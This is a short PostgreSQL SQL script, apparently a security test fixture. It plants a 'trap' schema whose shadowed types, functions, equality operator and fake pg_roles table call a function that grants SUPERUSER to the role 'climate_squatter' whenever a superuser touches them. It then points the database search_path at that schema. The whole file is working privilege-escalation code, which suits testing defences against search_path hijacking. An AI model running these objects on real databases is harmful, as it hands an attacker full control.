-- The owner has set the database's search_path: types, functions and operators of its own come before PostgreSQL's.
-- expect: installs
CREATE SCHEMA trap;
GRANT USAGE ON SCHEMA trap TO PUBLIC;
CREATE FUNCTION trap.rise(pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql AS $$
BEGIN
    IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user) THEN
        ALTER ROLE climate_squatter SUPERUSER;
    END IF;
    RETURN true;
END $$;
CREATE DOMAIN trap.text AS pg_catalog.text CHECK (trap.rise(VALUE::pg_catalog.text));
CREATE DOMAIN trap.jsonb AS pg_catalog.jsonb CHECK (trap.rise(VALUE::pg_catalog.text));
CREATE DOMAIN trap.uuid AS pg_catalog.uuid CHECK (trap.rise(VALUE::pg_catalog.text));
CREATE DOMAIN trap.timestamptz AS pg_catalog.timestamptz CHECK (trap.rise(VALUE::pg_catalog.text));
CREATE FUNCTION trap.lower(pg_catalog.text) RETURNS pg_catalog.text LANGUAGE plpgsql AS $$BEGIN PERFORM trap.rise($1); RETURN pg_catalog.lower($1); END$$;
CREATE FUNCTION trap.format(pg_catalog.text, VARIADIC pg_catalog.text[]) RETURNS pg_catalog.text LANGUAGE plpgsql AS $$BEGIN PERFORM trap.rise($1); RETURN pg_catalog.format($1, VARIADIC $2); END$$;
CREATE FUNCTION trap.current_setting(pg_catalog.text) RETURNS pg_catalog.text LANGUAGE plpgsql AS $$BEGIN PERFORM trap.rise($1); RETURN pg_catalog.current_setting($1); END$$;
CREATE FUNCTION trap.same(pg_catalog.text, pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql AS $$BEGIN PERFORM trap.rise($1); RETURN $1 OPERATOR(pg_catalog.=) $2; END$$;
CREATE OPERATOR trap.= (LEFTARG = pg_catalog.text, RIGHTARG = pg_catalog.text, FUNCTION = trap.same);
CREATE TABLE trap.pg_roles AS SELECT 'domainflow_definer'::pg_catalog.name AS rolname, true AS rolsuper;
SELECT pg_catalog.format('ALTER DATABASE %I SET search_path = trap, pg_catalog, public', pg_catalog.current_database()) \gexec
